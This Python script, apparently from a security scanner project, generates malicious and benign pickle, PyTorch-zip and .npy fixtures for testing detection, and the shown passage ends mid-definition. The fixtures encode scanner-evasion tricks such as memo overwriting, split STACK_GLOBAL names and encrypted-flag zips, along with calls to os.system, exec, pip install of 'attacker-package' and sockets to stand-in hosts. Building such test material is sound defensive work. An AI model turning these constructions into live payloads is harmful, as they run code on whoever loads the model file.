#!/usr/bin/env python3
"""Writes the pickle fixtures under tests/fixtures/pickles/ (Python 3 standard library only).

The first fixtures are hand-assembled opcodes; the peer-class fixtures (issue 15) are written by
Python's own pickler (pickle._Pickler) with `Named` stand-ins for the dangerous callables, so nothing
dangerous is imported or run: the "malicious" files only *name* dangerous globals. This script never
unpickles anything (pickletools.dis and genops, used as self-checks, only disassemble).
It also writes manifest.json: each fixture with the verdict Hub Sentinel must give and its class.

Usage: python3 scripts/make-pickle-fixtures.py [output-dir]
"""
import enum
import io
import json
import pickle
import pickletools
import random
import struct
import sys
import types
import zlib
from dataclasses import dataclass, field
from pathlib import Path

OUT = Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).resolve().parent.parent / "tests/fixtures/pickles"

# ---- opcodes -------------------------------------------------------------------------------
MARK, STOP, POP, TUPLE, EMPTY_TUPLE, REDUCE, SETITEM, APPEND, APPENDS, BUILD = b"(", b".", b"0", b"t", b")", b"R", b"s", b"a", b"e", b"b"
EMPTY_DICT, EMPTY_LIST, NONE, NEWTRUE, NEWFALSE, BINPERSID = b"}", b"]", b"N", b"\x88", b"\x89", b"Q"
TUPLE1, TUPLE2, TUPLE3, STACK_GLOBAL, MEMOIZE = b"\x85", b"\x86", b"\x87", b"\x93", b"\x94"


def proto(n: int) -> bytes:
    return b"\x80" + bytes([n])


def global_(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def binunicode(text: str) -> bytes:
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def short_binunicode(text: str) -> bytes:
    data = text.encode()
    assert len(data) < 256
    return b"\x8c" + bytes([len(data)]) + data


def binint1(n: int) -> bytes:
    return b"K" + bytes([n])


def binput(n: int) -> bytes:
    return b"q" + bytes([n])


def binget(n: int) -> bytes:
    return b"h" + bytes([n])


def frame(body: bytes) -> bytes:
    """Protocol 4 framing: FRAME <8-byte length> then the opcodes."""
    return b"\x95" + struct.pack("<Q", len(body)) + body


def check(data: bytes, strict: bool = True) -> bytes:
    """Disassembles every pickle in data (never loads): a fixture that should be valid must be.

    pickletools.dis also refuses a memo key written twice, which the unpickler accepts; the
    memo-confusion fixtures are checked with genops (opcode structure only)."""
    stream = io.BytesIO(data)
    while stream.tell() < len(data):
        if strict:
            pickletools.dis(stream, out=io.StringIO())
        else:
            for _ in pickletools.genops(stream):
                pass
    return data


# ---- PyTorch-style pickles --------------------------------------------------------------------
def tensor(key: str, numel: int, memo: dict) -> bytes:
    """torch._utils._rebuild_tensor_v2(persistent storage, offset, size, stride, requires_grad, hooks)."""
    out = bytearray()
    if "rebuild" in memo:
        out += binget(memo["rebuild"])
    else:
        out += global_("torch._utils", "_rebuild_tensor_v2") + binput(memo.setdefault("rebuild", len(memo)))
    out += MARK + MARK + binunicode("storage")
    if "storage" in memo:
        out += binget(memo["storage"])
    else:
        out += global_("torch", "FloatStorage") + binput(memo.setdefault("storage", len(memo)))
    out += binunicode(key) + binunicode("cpu") + binint1(numel) + TUPLE + BINPERSID
    out += binint1(0) + binint1(2) + binint1(2) + TUPLE2 + binint1(2) + binint1(1) + TUPLE2 + NEWFALSE
    out += global_("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + TUPLE + REDUCE
    return bytes(out)


def torch_state_dict(extra: bytes = b"") -> bytes:
    """OrderedDict(weight=tensor, bias=tensor) at protocol 2, the way torch.save writes it."""
    memo: dict = {}
    body = proto(2) + global_("collections", "OrderedDict") + binput(99) + EMPTY_TUPLE + REDUCE
    body += binunicode("weight") + tensor("0", 4, memo) + SETITEM
    body += binunicode("bias") + tensor("1", 4, memo) + SETITEM
    return check(body + extra + STOP)


def call(module: str, name: str, arg: str, protocol: int = 2) -> bytes:
    """module.name(arg) via GLOBAL + REDUCE. Written, never loaded."""
    return check(proto(protocol) + global_(module, name) + binunicode(arg) + TUPLE1 + REDUCE + STOP)


HARMLESS = "print('hub-sentinel fixture: never loaded')"

# ---- zip writer (stored or deflated; optional ZIP64 records) ----------------------------------
def deflate_raw(data: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush()


def make_zip(members, zip64: bool = False, flags: int = 0x800) -> bytes:
    """members: (name, data, method) with method 0 (stored) or 8 (deflated); flags: general-purpose bits."""
    out = bytearray()
    central = bytearray()
    version = 45 if zip64 else 20
    for name, data, method in members:
        raw_name = name.encode()
        comp = data if method == 0 else deflate_raw(data)
        crc = zlib.crc32(data)
        offset = len(out)
        if zip64:
            local_extra = struct.pack("<HHQQ", 1, 16, len(data), len(comp))
            sizes = (0xFFFFFFFF, 0xFFFFFFFF)
            central_extra = struct.pack("<HHQQQ", 1, 24, len(data), len(comp), offset)
            central_offset = 0xFFFFFFFF
        else:
            local_extra = b""
            sizes = (len(comp), len(data))
            central_extra = b""
            central_offset = offset
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, version, flags, method, 0, 0x21, crc, sizes[0], sizes[1], len(raw_name), len(local_extra))
        out += raw_name + local_extra + comp
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII", 0x02014B50, version, version, flags, method, 0, 0x21, crc, sizes[0], sizes[1],
            len(raw_name), len(central_extra), 0, 0, 0, 0, central_offset,
        )
        central += raw_name + central_extra
    cd_offset = len(out)
    out += central
    count = len(members)
    if zip64:
        record_offset = len(out)
        out += struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, count, count, len(central), cd_offset)
        out += struct.pack("<IIQI", 0x07064B50, 0, record_offset, 1)
        out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    else:
        out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(central), cd_offset, 0)
    return bytes(out)


def torch_zip(data_pkl: bytes, prefix: str = "archive", zip64: bool = False, method: int = 0, flags: int = 0x800) -> bytes:
    storage = struct.pack("<4f", 1.0, 2.0, 3.0, 4.0)
    return make_zip(
        [
            (f"{prefix}/data.pkl", data_pkl, method),
            (f"{prefix}/byteorder", b"little", method),
            (f"{prefix}/data/0", storage, 0),
            (f"{prefix}/data/1", storage, 0),
            (f"{prefix}/version", b"3\n", method),
            (f"{prefix}/.data/serialization_id", b"1234567890", method),
        ],
        zip64=zip64,
        flags=flags,
    )


# ---- .npy -----------------------------------------------------------------------------------
def npy(descr: str, shape: str, payload: bytes) -> bytes:
    header = "{'descr': %s, 'fortran_order': False, 'shape': %s, }" % (descr, shape)
    total = 10 + len(header) + 1
    header += " " * ((64 - total % 64) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin1") + payload


def numpy_object_array_pickle() -> bytes:
    """What np.save writes for np.array(['a', 1], dtype=object): an ndarray pickled at protocol 3."""
    body = proto(3)
    body += global_("numpy.core.multiarray", "_reconstruct") + global_("numpy", "ndarray")
    body += binint1(0) + TUPLE1 + b"C\x01b" + TUPLE3 + REDUCE
    body += MARK + binint1(1) + binint1(2) + TUPLE1
    body += global_("numpy", "dtype") + binunicode("O8") + NEWFALSE + NEWTRUE + TUPLE3 + REDUCE
    body += MARK + binint1(3) + binunicode("|") + NONE + NONE + NONE + b"J\xff\xff\xff\xff" + b"J\xff\xff\xff\xff" + binint1(63) + TUPLE + BUILD
    body += NEWFALSE + EMPTY_LIST + MARK + binunicode("a") + binint1(1) + APPENDS + TUPLE + BUILD + STOP
    return check(body)


# ---- fixtures -------------------------------------------------------------------------------
def fixtures():
    benign = torch_state_dict()
    yield "benign-torch.pt", torch_zip(benign), "PyTorch zip (archive/data.pkl, data/0, data/1, version): OrderedDict of two tensors -> clean"
    yield "exec-torch.pt", torch_zip(call("builtins", "exec", HARMLESS)), "PyTorch zip whose data.pkl calls builtins.exec -> dangerous"
    yield "benign-zip64.pt", torch_zip(benign, zip64=True), "the benign PyTorch zip written with ZIP64 sizes/offsets, ZIP64 EOCD record and locator -> clean"
    yield "deflated-torch.pt", torch_zip(call("os", "system", "true"), prefix="model", method=8), "PyTorch zip with deflated members; data.pkl calls os.system -> dangerous"
    # The JFrog pattern: an ordinary state dict that also runs a shell command (the fake Hub serves it).
    posix_extra = binunicode("_meta") + global_("posix", "system") + binunicode("true") + TUPLE1 + REDUCE + SETITEM
    yield "posix-system-torch.pt", torch_zip(torch_state_dict(posix_extra)), "PyTorch zip: a state dict of two tensors whose data.pkl also calls posix.system -> dangerous"

    posix_body = short_binunicode("posix") + MEMOIZE + short_binunicode("system") + MEMOIZE + STACK_GLOBAL + MEMOIZE
    posix_body += short_binunicode("true") + MEMOIZE + TUPLE1 + MEMOIZE + REDUCE + MEMOIZE + STOP
    yield "posix-system.pkl", check(proto(4) + frame(posix_body)), "protocol 4 with FRAME: STACK_GLOBAL posix.system -> dangerous"
    yield "runpy-run-code.pkl", call("runpy", "_run_code", HARMLESS), "protocol 2 GLOBAL runpy._run_code -> dangerous"
    yield "inst-os-system.pkl", check(MARK + b"S'true'\n" + b"ios\nsystem\n" + STOP), "protocol 0 INST os.system -> dangerous"

    proto0 = b"ccollections\nOrderedDict\np0\n((lp1\n(S'key'\np2\nVvalue \\u00e9\np3\ntp4\natp5\nRp6\n."
    yield "benign-proto0.pkl", check(proto0), "protocol 0 text pickle: OrderedDict([('key', 'value é')]) with PUT/STRING/UNICODE -> clean"
    yield "benign-plain.pkl", check(proto(4) + frame(b"}\x94(" + short_binunicode("lr") + b"G?\xb9\x99\x99\x99\x99\x99\x9a" + short_binunicode("names") + b"]\x94(" + short_binunicode("a") + short_binunicode("b") + b"eu.")), "plain protocol 4 dict, no imports -> clean"

    # Memo confusion: the memo slots first hold a harmless pair, then are overwritten.
    overwrite = proto(4) + short_binunicode("collections") + MEMOIZE + short_binunicode("OrderedDict") + MEMOIZE + POP + POP
    overwrite += short_binunicode("os") + binput(0) + short_binunicode("system") + binput(1) + POP + POP
    overwrite += binget(0) + binget(1) + STACK_GLOBAL + short_binunicode("true") + TUPLE1 + REDUCE + STOP
    yield "memo-overwrite.pkl", check(overwrite, strict=False), "STACK_GLOBAL args from memo slots overwritten by BINPUT (first write collections.OrderedDict, real os.system) -> dangerous"
    # MEMOIZE stores at len(memo), not at "number of MEMOIZE ops so far".
    index = proto(4) + short_binunicode("builtins") + binput(5) + short_binunicode("eval") + MEMOIZE + short_binunicode("nothing") + MEMOIZE
    index += POP + POP + POP + binget(5) + binget(1) + STACK_GLOBAL + short_binunicode("1+1") + TUPLE1 + REDUCE + STOP
    yield "memo-index.pkl", check(index, strict=False), "BINPUT 5 then MEMOIZE (stored at key 1 = len(memo)); BINGET 5, BINGET 1 -> builtins.eval -> dangerous"
    computed = proto(4) + global_("builtins", "str") + MARK + short_binunicode("os") + TUPLE + REDUCE
    computed += short_binunicode("system") + STACK_GLOBAL + short_binunicode("true") + TUPLE1 + REDUCE + STOP
    yield "stack-global-computed.pkl", check(computed), "STACK_GLOBAL whose module is computed at load time (str('os')): unresolvable -> dangerous"

    first = check(proto(2) + EMPTY_DICT + binunicode("a") + binint1(1) + SETITEM + STOP)
    yield "appended.pkl", first + call("builtins", "eval", "1+1"), "benign pickle, then a second pickle calling builtins.eval -> dangerous"

    inner = torch_zip(call("os", "system", "true"))
    yield "nested.zip", make_zip([("readme.txt", b"models inside", 0), ("inner/model.pt", inner, 0)]), "zip holding a stored PyTorch zip whose data.pkl calls os.system -> dangerous"
    yield "nested-deflated.zip", make_zip([("inner/model.pt", inner, 8)]), "zip holding a deflated PyTorch zip (os.system) -> dangerous"
    deep = torch_zip(benign)
    for level in range(5):
        deep = make_zip([(f"level{level}.zip", deep, 0)])
    yield "nested-deep.zip", deep, "benign PyTorch zip wrapped in 5 more zips: beyond the default depth 3 -> unknown"

    magic = proto(2) + b"\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little") + STOP
    version = proto(2) + b"M\xe9\x03" + STOP
    sys_info = proto(2) + EMPTY_DICT + binunicode("protocol_version") + b"M\xe9\x03" + SETITEM + binunicode("little_endian") + NEWTRUE + SETITEM + STOP
    keys = proto(2) + EMPTY_LIST + binunicode("0") + APPEND + binunicode("1") + APPEND + STOP
    raw = (struct.pack("<q", 4) + b"\xff" * 16) * 2
    legacy = b"".join(check(p) for p in (magic, version, sys_info, benign, keys)) + raw
    yield "legacy-torch.pt", legacy, "legacy (non-zip) torch.save: magic, protocol, sys info, data, storage keys pickles, then raw storage bytes -> clean"
    legacy_evil = b"".join(check(p) for p in (magic, version, call("builtins", "eval", "1+1"), benign, keys)) + raw
    yield "legacy-torch-evil.pt", legacy_evil, "legacy torch file whose sys-info pickle calls builtins.eval -> dangerous"

    yield "object-array.npy", npy("'|O'", "(2,)", numpy_object_array_pickle()), ".npy with dtype object: payload pickle imports numpy._reconstruct/ndarray/dtype -> clean"
    evil_payload = check(proto(3) + EMPTY_LIST + MARK + global_("builtins", "eval") + binunicode("1+1") + TUPLE1 + REDUCE + APPENDS + STOP)
    yield "object-array-evil.npy", npy("'|O'", "(1,)", evil_payload), ".npy with dtype object whose payload calls builtins.eval -> dangerous"
    yield "float32.npy", npy("'<f4'", "(4,)", struct.pack("<4f", 1, 2, 3, 4)), ".npy of float32: no pickle -> clean"
    yield "arrays.npz", make_zip([("a.npy", npy("'<f4'", "(4,)", struct.pack("<4f", 1, 2, 3, 4)), 8), ("b.npy", npy("'|O'", "(1,)", evil_payload), 8)]), "npz (deflated): a float array and an object array calling builtins.eval -> dangerous"

    yield "archive.7z", b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(24), "7z signature header only -> unknown (cannot read 7z archives)"

    yield "bad-opcode.pkl", proto(2) + EMPTY_LIST + b"\xff" + STOP, "unknown opcode 0xff -> unknown"
    yield "stack-underflow.pkl", proto(2) + REDUCE + STOP, "REDUCE on an empty stack -> unknown"
    yield "truncated.pkl", benign[: len(benign) // 2], "the benign data.pkl cut in half -> unknown"
    yield "dangerous-then-garbage.pkl", proto(2) + global_("os", "system") + binunicode("true") + TUPLE1 + REDUCE + b"\xfe\xfe", "os.system, then garbage: the import still runs on load -> dangerous"
    full = torch_zip(benign)
    yield "truncated-zip.pt", full[: len(full) * 2 // 3], "the benign PyTorch zip cut to two thirds (no end of central directory) -> unknown"
    bad = bytearray(full)
    eocd = bytes(bad).rfind(b"PK\x05\x06")
    struct.pack_into("<I", bad, eocd + 16, 0x7FFFFFF0)
    yield "bad-cd-offset.pt", bytes(bad), "PyTorch zip whose EOCD points the central directory past the end -> unknown"
    yield "not-a-pickle.bin", b"hello, this is text and not a pickle\n", "text bytes -> unknown (not a format the reader knows)"


# ---- peer classes (issue 15): written by Python's pickler, never loaded -----------------------
class Named:
    """Stands for the callable `module.qualname`; the pickler below writes only its name. Never called."""

    def __init__(self, module: str, qualname: str, ext: int = 0):
        self.module, self.qualname, self.ext = module, qualname, ext

    def __call__(self, *args):
        raise AssertionError("a fixture stand-in is never called")


class Call:
    """`func(*args)` as the pickler writes it: the function's global, the arguments, REDUCE."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args

    def __call__(self, *args):
        raise AssertionError("a fixture stand-in is never called")


class FixturePickler(pickle._Pickler):
    """Python's own pickler, which names a `Named` as a global (GLOBAL below protocol 4, STACK_GLOBAL from 4,
    EXT1 for a registered extension code), as it does for any function it finds by name."""

    dispatch = pickle._Pickler.dispatch.copy()

    def save_named(self, obj: Named) -> None:
        if obj.ext:
            self.write(pickle.EXT1 + bytes([obj.ext]))
        elif self.proto >= 4:
            self.save(obj.module)
            self.save(obj.qualname)
            self.write(pickle.STACK_GLOBAL)
        else:
            self.write(pickle.GLOBAL + obj.module.encode() + b"\n" + obj.qualname.encode() + b"\n")
        self.memoize(obj)

    dispatch[Named] = save_named


def dumps(obj, protocol: int) -> bytes:
    out = io.BytesIO()
    FixturePickler(out, protocol).dump(obj)
    return check(out.getvalue())


def inject(payload: Call, into: bytes) -> bytes:
    """The payload run first, its result dropped (POP), then the real pickle: how fickling's benchmark and
    JFrog's finds put a call into a genuine checkpoint, which still loads as its state dict."""
    assert into[:2] == proto(2)
    body = dumps(payload, 2)[2:-1]
    # The real pickle reuses memo keys the payload wrote: legal (the unpickler overwrites), refused by dis.
    return check(proto(2) + body + POP + into[2:], strict=False)


# (fixture stem, class, call, source). Each is written as a plain pickle and injected into a PyTorch zip.
PEER_CLASSES = [
    ("torch-hub-load", "remote model", Call(Named("torch.hub", "load"), "attacker/repo", "model"), "issue 15 (torch.hub.load)"),
    ("torch-hub-state-dict-url", "remote model", Call(Named("torch.hub", "load_state_dict_from_url"), "https://example.invalid/w.pt"), "issue 15"),
    ("model-zoo-load-url", "remote model", Call(Named("torch.utils.model_zoo", "load_url"), "https://example.invalid/w.pt"), "ours"),
    ("http-client", "network", Call(Named("http.client", "HTTPSConnection"), "example.invalid"), "issue 15 (http.client)"),
    ("httplib", "network", Call(Named("httplib", "HTTPConnection"), "example.invalid"), "picklescan list (httplib)"),
    ("urllib-urlopen", "network", Call(Named("urllib.request", "urlopen"), "https://example.invalid/"), "picklescan list"),
    ("urllib2", "network", Call(Named("urllib2", "urlopen"), "https://example.invalid/"), "fickling list"),
    ("requests-get", "network", Call(Named("requests", "get"), "https://example.invalid/"), "fickling list"),
    ("requests-api", "network", Call(Named("requests.api", "post"), "https://example.invalid/", "data"), "picklescan list"),
    ("aiohttp", "network", Call(Named("aiohttp", "request"), "GET", "https://example.invalid/"), "picklescan list"),
    ("ftplib", "network", Call(Named("ftplib", "FTP"), "example.invalid"), "fickling list"),
    ("smtplib", "network", Call(Named("smtplib", "SMTP"), "example.invalid"), "fickling list"),
    ("telnetlib", "network", Call(Named("telnetlib", "Telnet"), "example.invalid"), "fickling list"),
    ("xmlrpc", "network", Call(Named("xmlrpc.client", "ServerProxy"), "https://example.invalid/"), "fickling list"),
    ("socketserver", "network", Call(Named("socketserver", "TCPServer"), ("0.0.0.0", 4444), None), "fickling list"),
    ("socket", "network", Call(Named("socket", "create_connection"), ("example.invalid", 4444)), "picklescan list"),
    ("webbrowser", "network", Call(Named("webbrowser", "open"), "https://example.invalid/"), "picklescan list"),
    ("runstring-joined", "split path", Call(Named("numpy.testing._private.utils", "runstring"), "1+1", {}), "picklescan list"),
    ("runstring-split", "split path", Call(Named("numpy.testing", "_private.utils.runstring"), "1+1", {}), "issue 15 (STACK_GLOBAL split)"),
    ("runstring-split-top", "split path", Call(Named("numpy", "testing._private.utils.runstring"), "1+1", {}), "issue 15 (STACK_GLOBAL split)"),
    ("attribute-chain-os", "attribute chain", Call(Named("torch.serialization", "os.system"), "true"), "GHSA-5j3x-jp52-966f"),
    ("dunder-globals", "attribute chain", Call(Named("torch._utils", "_rebuild_tensor_v2.__globals__.get"), "os"), "ours"),
    ("pip-main", "installs code", Call(Named("pip", "main"), ["install", "attacker-package"]), "picklescan list"),
    ("ensurepip", "installs code", Call(Named("ensurepip", "_run_pip"), ["install", "x"]), "GHSA-xp4f-hrf8-rxw7"),
    ("pkgutil-resolve", "imports by name", Call(Named("pkgutil", "resolve_name"), "os:system"), "GHSA-vvpj-8cmc-gx39"),
    ("pydoc-locate", "imports by name", Call(Named("pydoc", "locate"), "os.system"), "picklescan list"),
    ("importlib", "imports by name", Call(Named("importlib", "import_module"), "os"), "fickling list"),
    ("builtins-import", "imports by name", Call(Named("builtins", "__import__"), "os"), "fickling list"),
    ("code-interact", "evaluates code", Call(Named("code", "InteractiveInterpreter.runcode"), None, "1+1"), "picklescan list"),
    ("codeop", "evaluates code", Call(Named("codeop", "compile_command"), "1+1"), "fickling list"),
    ("bdb-run", "evaluates code", Call(Named("bdb", "Bdb.run"), None, "1+1"), "picklescan list"),
    ("pdb-run", "evaluates code", Call(Named("pdb", "run"), "1+1"), "picklescan list"),
    ("cprofile-run", "evaluates code", Call(Named("cProfile", "run"), "1+1"), "GHSA-9w88-8rmg-7g2p"),
    ("timeit", "evaluates code", Call(Named("timeit", "timeit"), "1+1", "pass", None, 1), "GHSA-v7x6-rv5q-mhwc"),
    ("trace-run", "evaluates code", Call(Named("trace", "Trace.run"), None, "1+1"), "picklescan list"),
    ("doctest-debug", "evaluates code", Call(Named("doctest", "debug_script"), "1+1"), "GHSA-fqq6-7vqf-w3fg"),
    ("idlelib-runcode", "evaluates code", Call(Named("idlelib.pyshell", "ModifiedInterpreter.runcode"), None, "1+1"), "GHSA-3gf5-cxq9-w223"),
    ("lib2to3-make-label", "evaluates code", Call(Named("lib2to3.pgen2.pgen", "ParserGenerator.make_label"), None, None, "'x'"), "GHSA-p9w7-82w4-7q8m"),
    ("dynamo-guard", "evaluates code", Call(Named("torch._dynamo.guards", "GuardBuilder.get"), None, "1+1"), "GHSA-86cj-95qr-2p4f"),
    ("collect-env", "runs a command", Call(Named("torch.utils.collect_env", "run"), "true"), "GHSA-f745-w6jp-hpxx"),
    ("exec-wrapper", "evaluates code", Call(Named("torch.jit.unsupported_tensor_ops", "execWrapper"), "1+1", {}, {}), "GHSA-vr7h-p6mm-wpmh"),
    ("shutil-rmtree", "files", Call(Named("shutil", "rmtree"), "/nonexistent-fixture-path"), "picklescan list"),
    ("asyncio-subprocess", "runs a command", Call(Named("asyncio", "create_subprocess_shell"), "true"), "picklescan list"),
    ("ctypes-cdll", "native code", Call(Named("ctypes", "CDLL"), "libc.so.6"), "picklescan list"),
    ("marshal-loads", "bytecode", Call(Named("marshal", "loads"), b"\xe3"), "fickling list"),
    ("function-type", "bytecode", Call(Named("types", "FunctionType"), None, {}), "ours"),
    ("sys-modules", "interpreter", Call(Named("sys", "modules.get"), "os"), "picklescan list"),
    ("getattr-chain", "attribute", Call(Named("builtins", "getattr"), None, "system"), "picklescan list"),
    ("pickle-loads", "nested pickle", Call(Named("_pickle", "loads"), b"N."), "picklescan list"),
    ("torch-load", "nested pickle", Call(Named("torch", "load"), "other.pt"), "ours"),
    ("attrgetter", "attribute", Call(Named("operator", "attrgetter"), "system"), "picklescan list"),
    ("functools-partial", "calls a function", Call(Named("functools", "partial"), None, "true"), "picklescan list"),
    ("posix-system", "runs a command", Call(Named("posix", "system"), "true"), "picklescan list"),
    ("subprocess-popen", "runs a command", Call(Named("subprocess", "Popen"), ["true"]), "picklescan list"),
    ("posixsubprocess", "runs a command", Call(Named("_posixsubprocess", "fork_exec"), ["true"]), "fickling list (CVE-2025-10157)"),
]


def training_args_pickle(protocol: int, enum_by_name: bool = False) -> bytes:
    """A training_args.bin-shaped object: a dataclass of plain fields and enums, with the module and class
    names transformers uses (stand-in classes under those names, registered only while pickling).
    enum_by_name: members pickled as getattr(Class, "NAME"), as Python >= 3.12's Enum.__reduce_ex__ does."""
    modules = {name: types.ModuleType(name) for name in ("transformers", "transformers.training_args", "transformers.trainer_utils")}

    class IntervalStrategy(str, enum.Enum):
        NO = "no"
        STEPS = "steps"

    class SchedulerType(str, enum.Enum):
        LINEAR = "linear"

    @dataclass
    class TrainingArguments:
        output_dir: str = "out"
        learning_rate: float = 5e-5
        num_train_epochs: float = 3.0
        eval_strategy: IntervalStrategy = IntervalStrategy.STEPS
        lr_scheduler_type: SchedulerType = SchedulerType.LINEAR
        report_to: list = field(default_factory=lambda: ["none"])

    if enum_by_name:
        for cls in (IntervalStrategy, SchedulerType):
            cls.__reduce_ex__ = lambda self, proto: (getattr, (self.__class__, self._name_))
    for cls, module in ((TrainingArguments, "transformers.training_args"), (IntervalStrategy, "transformers.trainer_utils"), (SchedulerType, "transformers.trainer_utils")):
        cls.__module__ = module
        cls.__qualname__ = cls.__name__
        setattr(modules[module], cls.__name__, cls)
    saved = {name: sys.modules.get(name) for name in modules}
    sys.modules.update(modules)
    try:
        return dumps(TrainingArguments(), protocol)
    finally:
        for name, module in saved.items():
            if module is None:
                sys.modules.pop(name, None)
            else:
                sys.modules[name] = module


def peer_fixtures():
    """Yields (name, bytes, description, class, source) for the peer classes of issue 15."""
    benign = torch_state_dict()
    for stem, klass, payload, source in PEER_CLASSES:
        name = f"{payload.func.module}.{payload.func.qualname}"
        yield f"peer-{stem}.pkl", dumps(payload, 4), f"protocol 4 pickle calling {name} -> dangerous", klass, source
        yield f"peer-{stem}-torch.pt", torch_zip(inject(payload, benign)), f"PyTorch zip: the two-tensor state dict with {name} injected before it -> dangerous", klass, source

    # Protocol 0-2 spellings of the same classes (GLOBAL, Python 2 names renamed by the unpickler).
    yield "peer-httplib-proto0.pkl", dumps(Call(Named("httplib", "HTTPConnection"), "example.invalid"), 0), "protocol 0 GLOBAL httplib.HTTPConnection -> dangerous", "network", "picklescan list"
    yield "peer-cpickle-proto1.pkl", dumps(Call(Named("cPickle", "loads"), "N."), 1), "protocol 1 GLOBAL cPickle.loads (pickle.loads in Python 3) -> dangerous", "nested pickle", "ours"
    # EXT: copyreg.add_extension registers os.system under code 0x7f, then EXT1 0x7f imports it.
    registered = dumps([Call(Named("copyreg", "add_extension"), "os", "system", 0x7F), Call(Named("os", "system", ext=0x7F), "true")], 2)
    yield "peer-ext-registry.pkl", registered, "copyreg.add_extension(os, system, 127) then EXT1 127 -> dangerous", "EXT opcodes", "ours"
    # A payload behind the zip 'encrypted' flag, stored in the clear: PyTorch loads it, zipfile refuses.
    evil = inject(Call(Named("builtins", "exec"), HARMLESS), benign)
    yield "peer-encrypted-flag-torch.pt", torch_zip(evil, flags=0x801), "PyTorch zip whose entries set the encrypted flag over data stored in the clear; data.pkl calls builtins.exec -> dangerous", "zip encrypted flag", "issue 15"
    yield "peer-encrypted-flag-benign.pt", torch_zip(benign, flags=0x801), "the benign PyTorch zip with the encrypted flag set over clear data -> clean", "zip encrypted flag", "issue 15"
    enc = bytearray(make_zip([("archive/data.pkl", bytes(12) + benign, 0)], flags=0x801))
    yield "peer-really-encrypted.zip", bytes(enc), "a stored member with a 12-byte encryption header (sizes differ by 12): really encrypted -> unknown", "zip encrypted flag", "ours"
    two = make_zip([("archive/data.pkl", benign, 0), ("archive/version", b"3\n", 0), ("other/data.pkl", call("posix", "system", "true"), 0)])
    yield "peer-two-data-pkl.pt", two, "zip with two data.pkl members, the second calling posix.system -> dangerous", "multiple data.pkl", "ours"
    inner = torch_zip(inject(Call(Named("posix", "system"), "true"), benign))
    yield "peer-nested-torch.zip", make_zip([("checkpoint/model.pt", inner, 8)]), "zip holding a deflated PyTorch zip with an injected posix.system -> dangerous", "nested zip", "ours"

    # Benign: things real repos hold, which must not be above clean.
    yield "benign-training-args.bin", training_args_pickle(2), "training_args.bin-shaped: TrainingArguments dataclass with enums, protocol 2 -> clean", "benign", "ours"
    yield "benign-training-args-p4.bin", training_args_pickle(4), "the same at protocol 4 (STACK_GLOBAL, framing) -> clean", "benign", "ours"
    yield "benign-training-args-py312.bin", training_args_pickle(2, enum_by_name=True), "training_args.bin as Python 3.12 writes it: enums as builtins.getattr(Class, 'NAME'), never called -> clean", "benign", "ours"
    yield "benign-training-args-py312-p4.bin", training_args_pickle(4, enum_by_name=True), "the same at protocol 4 -> clean", "benign", "ours"
    called = Call(Call(getattr, Named("collections", "OrderedDict"), "fromkeys"), ["a"])
    yield "peer-getattr-result-called.pkl", dumps(called, 4), "getattr(collections.OrderedDict, 'fromkeys') whose result is then called -> dangerous", "attribute", "picklescan list (getattr)"
    yield "peer-getattr-result-called-torch.pt", torch_zip(inject(called, benign)), "the called getattr result injected into a PyTorch zip -> dangerous", "attribute", "picklescan list (getattr)"
    nested = Call(Call(getattr, Call(getattr, Named("torch", "serialization"), "os"), "system"), "true")
    yield "peer-getattr-nested.pkl", dumps(nested, 2), "getattr(getattr(torch.serialization, 'os'), 'system')('true') -> dangerous", "attribute", "picklescan list (getattr)"
    yield "peer-getattr-nested-torch.pt", torch_zip(inject(nested, benign)), "the nested getattr call injected into a PyTorch zip -> dangerous", "attribute", "picklescan list (getattr)"
    param = proto(2) + global_("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + binunicode("w")
    param += global_("torch._utils", "_rebuild_parameter") + tensor("0", 4, {}) + NEWTRUE + global_("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE + TUPLE3 + REDUCE + SETITEM + STOP
    yield "benign-parameter-torch.pt", torch_zip(check(param)), "PyTorch zip of a state dict holding an nn.Parameter (torch._utils._rebuild_parameter) -> clean", "benign", "ours"
    rng = random.Random(15)
    noise = bytes([0x63]) + bytes([0xFF, 0xFE]) + bytes(rng.randrange(256) for _ in range(4093))
    yield "not-a-pickle-c.bin", noise, "raw bytes whose first byte is 'c' (GLOBAL) followed by bytes that are not UTF-8 -> unknown (not a pickle)", "non-pickle bytes", "issue 15"
    yield "raw-float32.bin", struct.pack("<1024f", *[rng.uniform(-1, 1) for _ in range(1024)]), "raw float32 tensor bytes in a .bin -> unknown (not a pickle)", "non-pickle bytes", "ours"
    yield "int64.npy", npy("'<i8'", "(3, 2)", struct.pack("<6q", 1, 2, 3, 4, 5, 6)), ".npy of int64 -> clean", "benign", "ours"
    numeric = [("w.npy", npy("'<f4'", "(4,)", struct.pack("<4f", 1, 2, 3, 4))), ("b.npy", npy("'<i8'", "(2,)", struct.pack("<2q", 7, 8)))]
    yield "numeric.npz", make_zip([(n, d, 0) for n, d in numeric]), "npz (stored) of two numeric arrays -> clean", "benign", "ours"
    yield "numeric-deflated.npz", make_zip([(n, d, 8) for n, d in numeric]), "npz (deflated, savez_compressed) of two numeric arrays -> clean", "benign", "ours"


# ---- issues 24 and 28: zips by their members, encryption by the bytes, STACK_GLOBAL tricks ----------
@dataclass
class Member:
    """One zip member as written: `data` is the member's bytes as stored in the archive (after compression
    and encryption); crc and sizes default to those of `plain` (the bytes a reader should get)."""

    name: str
    data: bytes
    plain: bytes = None
    method: int = 0
    flags: int = 0x800
    local_extra: bytes = b""
